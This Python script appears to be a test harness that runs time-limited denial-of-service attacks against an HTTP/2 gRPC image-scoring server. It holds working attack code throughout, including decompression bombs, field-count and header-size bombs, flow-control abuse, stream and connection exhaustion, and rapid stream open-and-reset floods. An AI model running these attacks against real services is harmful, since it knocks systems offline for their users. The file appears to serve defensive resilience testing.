"""
Attacks on the port, each limited in time and bytes. Prints one JSON object: the server's answers to the attacker.

    python attacks.py NAME HOST:PORT [--source 127.0.0.2] [--seconds 6]
"""
import argparse
import functools
import gzip
import json
import socket
import struct
import time

import hpack

import http2
import wire
from http2 import GET, HEALTH, IMAGE, LIST, REFLECTION, STREAM, WATCH, Connection

MIB = 1 << 20
ZEROS = bytes(64 * MIB - 16)
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


class Peer:
    """The attacker: its address, its deadline, its connections and counts."""

    def __init__(self, address: str, source: str, seconds: float):
        self.address, self.source, self.seconds = address, source, seconds
        self.connections: list[Connection] = []
        self.counts: dict[str, int] = {}

    @functools.cached_property
    def deadline(self) -> float:
        """Starts at the first use, so that preparation takes none of the time."""
        return time.monotonic() + self.seconds

    @property
    def over(self) -> bool:
        return time.monotonic() > self.deadline

    def connect(self, window: int | None = None) -> Connection:
        connection = Connection(self.address, self.source, window)
        self.connections.append(connection)
        return connection

    def count(self, what: str, by: int = 1) -> None:
        self.counts[what] = self.counts.get(what, 0) + by

    def report(self) -> dict:
        return {**self.counts, **http2.outcome(self.connections)}


def send_all(peer: Peer, path: str, data: bytes, count: int, encoding: str = "gzip") -> None:
    """Sends the same bytes on `count` streams of one connection, and waits for the answers."""
    connection = peer.connect()
    streams = []
    for _ in range(count):
        stream = connection.open(path, encoding)
        streams.append(stream)
        connection.send(stream, data, end=True, deadline=peer.deadline)
    connection.wait(streams, peer.deadline - time.monotonic())


# --- Compressed messages ----------------------------------------------------------------------------------------------


@attack
def health_gzip(peer: Peer) -> None:
    """60 calls of open Health/Check, 64 MiB each once inflated, 4 MB compressed."""
    send_all(peer, HEALTH, wire.zipped(ZEROS), 60)


@attack
def small_calls_gzip(peer: Peer) -> None:
    """The same at every other method whose requests are small."""
    message = wire.zipped(wire.block(7, ZEROS[: 60 * MIB]))
    for path in (WATCH, LIST, GET, REFLECTION):
        send_all(peer, path, message, 15)


@attack
def image_gzip(peer: Peer) -> None:
    """60 calls of ScoreImage, 60 MiB of raw samples each once inflated."""
    message = wire.block(1, wire.header(rows=8192, columns=7680)) + wire.block(3, ZEROS[: 60 * MIB])
    send_all(peer, IMAGE, wire.zipped(message), 60)


@attack
def many_small_gzip(peer: Peer) -> None:
    """Frames of hundreds of compressed messages, each of 16 KiB once inflated."""
    message = wire.zipped(wire.rows_message(0, ZEROS[: 16 * 1024]))
    blob = message * (512 * 1024 // len(message))
    connection = peer.connect()
    streams = []
    for _ in range(50):
        stream = connection.open(STREAM, "gzip")
        streams.append(stream)
        connection.send(stream, wire.zipped(wire.stream_header(rows=32768, columns=64)) + blob, deadline=peer.deadline)
    connection.wait(streams, min(2, peer.deadline - time.monotonic()))


# --- Messages of very many fields -------------------------------------------------------------------------------------


@functools.cache
def tiles() -> bytes:
    return wire.block(3, wire.block(1, b"") * (31 * MIB))


@attack
def empty_tiles_first(peer: Peer) -> None:
    """One message of 33 million empty tiles where a header belongs, compressed to 64 KB."""
    send_all(peer, STREAM, wire.zipped(tiles()), 1)


@attack
def empty_tiles_after_header(peer: Peer) -> None:
    header = wire.zipped(wire.stream_header(source=wire.TILES))
    send_all(peer, STREAM, header + wire.zipped(tiles()), 2)


@attack
def empty_tiles_plain(peer: Peer) -> None:
    send_all(peer, STREAM, wire.frame(wire.stream_header(source=wire.TILES)) + wire.frame(tiles()), 1, "identity")


@attack
def long_lut(peer: Peer) -> None:
    """A look-up table of 63 million entries, in a stream's header and in an image's."""
    voi = wire.lut(ZEROS[: 63 * MIB])
    send_all(peer, STREAM, wire.zipped(wire.stream_header(voi=voi)), 2)
    send_all(peer, IMAGE, wire.zipped(wire.block(1, wire.header(voi=voi))), 2)


# --- Headers of large images ------------------------------------------------------------------------------------------


@attack
def tall_headers(peer: Peer) -> None:
    """Eight headers of rows=67108864, columns=1."""
    send_all(peer, STREAM, wire.frame(wire.stream_header(rows=67_108_864, columns=1)), 8, "identity")


@attack
def short_rows(peer: Peer) -> None:
    """4,000,000 rows of 16 samples in 62 KB of gzip; and the same bytes within the limit of 65,535 rows."""
    for rows, columns in ((4_000_000, 16), (65_535, 1000)):
        samples = ZEROS[: rows * columns]
        data = wire.zipped(wire.stream_header(rows=rows, columns=columns)) + wire.zipped(wire.rows_message(0, samples))
        send_all(peer, STREAM, data, 2)


@attack
def wide_headers(peer: Peer) -> None:
    """Three headers of columns=16760000, and many of the largest allowed width; each call that ends is opened again."""
    connection = peer.connect()
    first = [dict(rows=4, columns=16_760_000)] * 3
    streams: dict[int, dict] = {}
    for fields in first + [dict(rows=1024, columns=65_535)] * 500:
        stream = connection.open(STREAM)
        streams[stream] = fields
        connection.send(stream, wire.frame(wire.stream_header(**fields)))
    while not peer.over and not connection.closed:
        for stream in [each for each in streams if connection.is_over(each)]:
            fields = streams.pop(stream)
            connection.reset(stream)
            again = connection.open(STREAM)
            peer.count("again")
            streams[again] = fields
            connection.send(again, wire.frame(wire.stream_header(**fields)), deadline=peer.deadline)
        time.sleep(0.5)
        connection.pump()


@attack
def many_luts(peer: Peer) -> None:
    """As many open streams as the server allows, each with the longest look-up table and 16-bit samples."""
    voi = wire.block(2, wire.number(2, 16) + wire.block(3, wire.varint(65_535) * 65_536))
    message = wire.frame(wire.stream_header(rows=512, columns=512, bits=16, voi=voi))
    connection = peer.connect()
    streams = []
    for _ in range(1000):
        stream = connection.open(STREAM)
        streams.append(stream)
        if not connection.send(stream, message, deadline=peer.deadline) and (connection.closed or peer.over):
            break
    peer.count("open", sum(not connection.is_over(stream) for stream in streams))
    while not peer.over:
        connection.pump(0.1)


# --- Bytes in memory --------------------------------------------------------------------------------------------------


@attack
def held_messages(peer: Peer) -> None:
    """60 images of 60 MiB, each sent without its last byte."""
    connection = peer.connect()
    streams = [connection.open(IMAGE) for _ in range(60)]
    message = wire.frame(wire.block(1, wire.header(rows=8192, columns=7680)) + wire.block(3, ZEROS[: 60 * MIB]))
    push_evenly(peer, connection, streams, message[:-1])


@attack
def full_windows(peer: Peer) -> None:
    """500 streams that send as many bytes of rows as their windows allow."""
    connection = peer.connect()
    streams = []
    for _ in range(500):
        stream = connection.open(STREAM)
        streams.append(stream)
        connection.send(stream, wire.frame(wire.stream_header(rows=60_000, columns=1024)))
    message = wire.frame(wire.rows_message(0, ZEROS[: 60 * MIB]))
    push_evenly(peer, connection, streams, message)


def push_evenly(peer: Peer, connection: Connection, streams, data: bytes) -> None:
    """Sends some bytes to each stream in turn, as its window allows."""
    at = dict.fromkeys(streams, 0)
    while at and not peer.over and not connection.closed:
        sent = False
        for stream in list(at):
            if connection.is_over(stream) or at[stream] >= len(data):
                del at[stream]
                continue
            room = min(connection.h2.local_flow_control_window(stream), 256 * 1024)
            if room <= 0:
                continue
            section = data[at[stream] : at[stream] + room]
            if not connection.send(stream, section, deadline=peer.deadline):
                continue
            at[stream] += len(section)
            peer.count("megabytes", 0)
            sent = True
        if not sent:
            connection.pump(0.05)
    peer.counts["megabytes"] = sum(at.values()) // 1_000_000
    while not peer.over and not connection.closed:
        connection.pump(0.1)


@attack
def windows_not_kept(peer: Peer) -> None:
    """200 streams that each send the 4 MiB of the first SETTINGS, and ignore later ones."""
    sock = http2.dial(peer.address, peer.source)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    encoder = hpack.Encoder()
    streams = range(1, 400, 2)
    header = wire.frame(wire.stream_header(rows=60_000, columns=1024))
    rows = wire.frame(wire.rows_message(0, ZEROS[: 60 * MIB]))
    for stream in streams:
        if not push(peer, sock, request(encoder, stream, STREAM) + frame(0, 0, stream, header)):
            return
    for at in range(0, 4 * MIB - 16_384, 16_384):
        for stream in streams:
            if not push(peer, sock, frame(0, 0, stream, rows[at : at + 16_384])):
                peer.count("closed", int(not peer.over))
                return
            peer.count("bytes", 16_384)


@attack
def unread_answers(peer: Peer) -> None:
    """Streams that request every kind of answer and read none."""
    options = wire.number(2, 3) + wire.number(3, 1) + wire.number(4, 1)
    message = wire.frame(wire.stream_header(options=options))
    rows = wire.frame(wire.rows_message(0, bytes(range(256)) * 1024)) + wire.frame(wire.block(4, b""))
    connection = peer.connect(window=0)
    streams = []
    for _ in range(500):
        stream = connection.open(STREAM)
        streams.append(stream)
        connection.send(stream, message + rows, end=True, deadline=peer.deadline)
    while not peer.over and not connection.closed:
        connection.pump(0.1)


# --- Calls and connections --------------------------------------------------------------------------------------------


@attack
def idle_streams(peer: Peer) -> None:
    """More streams than the limit of calls, without a header; each that ends is opened again."""
    connections = [peer.connect() for _ in range(4)]
    while not peer.over:
        for connection in connections:
            for _ in range(300 - connection.open_streams):
                if connection.closed:
                    break
                connection.open(STREAM)
                peer.count("opened")
            connection.pump(0.05)


@attack
def open_watches(peer: Peer) -> None:
    """Health/Watch on as many streams as the server allows."""
    connections = [peer.connect() for _ in range(4)]
    for connection in connections:
        for _ in range(1000):
            if connection.closed:
                break
            stream = connection.open(WATCH)
            connection.send(stream, wire.frame(wire.block(1, b"")), end=True, deadline=peer.deadline)
            peer.count("opened")
    while not peer.over:
        for connection in connections:
            connection.pump(0.05)


@attack
def silent_connections(peer: Peer) -> None:
    """More connections than the limit, without a byte."""
    sockets = []
    while not peer.over:
        if len(sockets) < 1100:
            try:
                sockets.append(http2.dial(peer.address, peer.source, 1))
                peer.count("connected")
            except OSError:
                peer.count("refused")
                time.sleep(0.05)
            continue
        time.sleep(0.1)
    peer.counts["open"] = sum(not is_closed(each) for each in sockets)


def is_closed(sock: socket.socket) -> bool:
    sock.setblocking(False)
    try:
        while data := sock.recv(65_536):
            pass
        return data == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


# --- Calls without pause ----------------------------------------------------------------------------------------------


@attack
def open_and_reset(peer: Peer) -> None:
    """Streams opened and reset without pause, on each connection no more than HTTP/2 libraries tolerate."""
    for connected in new_connections(peer):
        encoder, stream = hpack.Encoder(), 1
        for _ in range(5):
            burst = bytearray()
            for _ in range(200):
                burst += request(encoder, stream, STREAM) + frame(3, 0, stream, struct.pack(">I", 8))
                stream += 2
            if not push(peer, connected, bytes(burst)):
                break
            peer.count("opened", 200)


@attack
def calls_without_pause(peer: Peer) -> None:
    """Small calls without pause, each with little effort for the client."""
    for connected in new_connections(peer):
        encoder, stream = hpack.Encoder(), 1
        while not peer.over:
            burst = bytearray()
            for path in (LIST, REFLECTION, HEALTH, "/no.such.Service/Method") * 20:
                # ServerReflectionRequest{file_containing_symbol}; the others take an empty message.
                message = wire.block(4, b"salad.v1.AnomalyScoring") if path == REFLECTION else b""
                burst += request(encoder, stream, path) + frame(0, 1, stream, wire.frame(message))
                stream += 2
            if not push(peer, connected, bytes(burst)):
                break
            peer.count("opened", 80)


@attack
def connections_without_pause(peer: Peer) -> None:
    """Connections opened and closed without pause, each with the preface."""
    for connected in new_connections(peer):
        connected.close()


def new_connections(peer: Peer):
    """Yields sockets that have sent the HTTP/2 preface, one after another until the deadline."""
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    while not peer.over:
        try:
            connected = http2.dial(peer.address, peer.source, 1)
            connected.sendall(preface)
        except OSError:
            peer.count("refused")
            time.sleep(0.02)
            continue
        peer.count("connected")
        yield connected
        connected.close()


def request(encoder: hpack.Encoder, stream: int, path: str) -> bytes:
    """A HEADERS frame that begins a call."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "salad"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    return frame(1, 4, stream, encoder.encode(headers))


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">IBBI", len(payload) << 8 | kind, flags, 0, 0)[:5] + struct.pack(">I", stream) + payload


def push(peer: Peer, sock: socket.socket, data: bytes) -> bool:
    """Sends all bytes and drops the answers; False where the connection closes or the deadline passes before."""
    sock.setblocking(False)
    view = memoryview(data)
    while len(view) > 0:
        if peer.over or is_closed(sock):
            return False
        try:
            view = view[sock.send(view) :]
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            return False
    return True


@attack
def tiny_messages(peer: Peer) -> None:
    """Rows of one sample, a message each, on 16 streams."""
    header = wire.frame(wire.stream_header(rows=65_535, columns=1))
    blob = b"".join(wire.frame(wire.rows_message(row, b"\x80")) for row in range(65_535))
    connection = peer.connect()
    while not peer.over and not connection.closed:
        streams = [connection.open(STREAM) for _ in range(16)]
        for stream in streams:
            connection.send(stream, header)
        push_until_done(peer, connection, streams, blob)


def push_until_done(peer: Peer, connection: Connection, streams, data: bytes) -> None:
    at = dict.fromkeys(streams, 0)
    while at and not peer.over and not connection.closed:
        for stream in list(at):
            if connection.is_over(stream) or at[stream] >= len(data):
                del at[stream]
                continue
            room = min(connection.h2.local_flow_control_window(stream), 65_536)
            section = data[at[stream] : at[stream] + max(0, room)]
            if section and connection.send(stream, section, deadline=peer.deadline):
                at[stream] += len(section)
                peer.count("bytes", len(section))
        connection.pump(0.001)
    for stream in streams:
        connection.reset(stream)


@attack
def empty_messages(peer: Peer) -> None:
    """Messages without content, thousands in a frame."""
    for _ in range(1000):
        if peer.over:
            return
        connection = peer.connect()
        blob = wire.frame(b"") * 3276
        streams = [connection.open(STREAM) for _ in range(50)]
        for stream in streams:
            connection.send(stream, blob, deadline=peer.deadline)
        connection.wait(streams, 1)
        peer.count("messages", 3276 * len(streams))
        connection.close()


@attack
def stat_flood(peer: Peer) -> None:
    """48 streams of urgent (STAT) images; each that ends is followed by another."""
    score_images(peer, wire.STAT)


@attack
def image_flood(peer: Peer) -> None:
    """48 streams of images as the good client sends them."""
    score_images(peer, wire.ROUTINE)


def score_images(peer: Peer, priority: int) -> None:
    samples = bytes((x * 7 + y * 13 + x * y) % 251 for y in range(512) for x in range(512))
    data = wire.frame(wire.stream_header(priority=priority)) + wire.frame(wire.rows_message(0, samples))
    data += wire.frame(wire.block(4, b""))
    connections = [peer.connect() for _ in range(4)]
    running: list[tuple[Connection, int]] = []
    while not peer.over:
        running = [(each, stream) for each, stream in running if not each.is_over(stream)]
        for connection in connections:
            mine = sum(each is connection for each, _ in running)
            for _ in range(0 if connection.closed else 12 - mine):
                stream = connection.open(STREAM)
                connection.send(stream, data, end=True, deadline=peer.deadline)
                running.append((connection, stream))
                peer.count("images")
            connection.pump(0.01)


# --- Long texts -------------------------------------------------------------------------------------------------------


@attack
def long_names(peer: Peer) -> None:
    """Texts of 10 KB in every field that the server could repeat, and a path of 30 KB."""
    long = "n" * 10_000
    connection = peer.connect()
    messages = {
        GET: wire.block(1, wire.block(1, long.encode())),
        IMAGE: wire.block(1, wire.header(model=long)),
        STREAM: wire.stream_header(model=long),
    }
    longest = 0
    for path, message in messages.items():
        for _ in range(30):
            stream = connection.open(path)
            connection.send(stream, wire.frame(message), end=True, deadline=peer.deadline)
            connection.wait([stream], 2)
            longest = max(longest, len(connection.messages.get(stream, "")))
    odd = [
        connection.open("/" + "p" * 30_000 + "/Method"),
        connection.open(STREAM, grpc_timeout="t" * 10_000),
        connection.open(STREAM, encoding="e" * 10_000),
    ]
    for stream in odd:
        connection.send(stream, wire.frame(b"", compressed=True), end=True, deadline=peer.deadline)
    connection.wait(odd, 2)
    peer.counts["longestMessage"] = max(longest, *(len(connection.messages.get(stream, "")) for stream in odd))


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("address")
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--seconds", type=float, default=6)
    options = parser.parse_args()
    peer = Peer(options.address, options.source, options.seconds)
    try:
        ATTACKS[options.name](peer)
    except OSError as error:
        # The test detects a server that has ended.
        peer.counts["error"] = str(error)
    print(json.dumps(peer.report()), flush=True)


main()
